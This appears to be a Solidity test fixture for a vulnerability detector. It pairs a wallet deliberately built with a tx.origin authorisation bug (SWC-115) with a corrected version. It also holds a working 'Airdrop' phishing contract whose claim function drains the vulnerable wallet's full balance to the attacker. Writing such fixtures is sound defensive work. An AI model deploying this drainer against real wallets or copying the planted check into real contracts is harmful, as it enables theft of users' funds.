// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// Planted bug (authorisation by tx.origin, SWC-115): a contract the owner calls (a token
/// airdrop, say) can call `withdraw` and passes the check in the owner's name.
contract OriginWallet {
    address public owner;

    constructor() payable {
        owner = msg.sender;
    }

    function withdraw(address payable to, uint256 amount) external {
        // Bug: tx.origin, not msg.sender.
        require(tx.origin == owner, "not the owner");
        to.transfer(amount);
    }
}

/// `OriginWallet` corrected: the caller is checked. It also refuses contract callers with
/// `tx.origin == msg.sender`, which asks whether the sender is an account, not who it is.
contract SenderWallet {
    address public owner;
    uint256 public withdrawals;

    constructor() payable {
        owner = msg.sender;
    }

    function withdraw(address payable to, uint256 amount) external {
        require(tx.origin == msg.sender, "accounts only");
        require(msg.sender == owner, "not the owner");
        withdrawals += 1;
        to.transfer(amount);
    }

    function poke() external {
        require(tx.origin == msg.sender, "accounts only");
        withdrawals += 1;
    }
}

/// The phishing contract of the witness in `tests/it/detectors_witness.rs` (never fuzzed):
/// an "airdrop" an attacker deploys and lures a wallet's owner into claiming. `claim`
/// withdraws the wallet's whole balance to the attacker: `OriginWallet` pays, since
/// `tx.origin` is its owner; `SenderWallet`, whose `withdraw` has the same signature,
/// refuses.
contract Airdrop {
    address payable public immutable attacker;

    constructor() {
        attacker = payable(msg.sender);
    }

    function claim(address wallet) external {
        OriginWallet(wallet).withdraw(attacker, wallet.balance);
    }
}
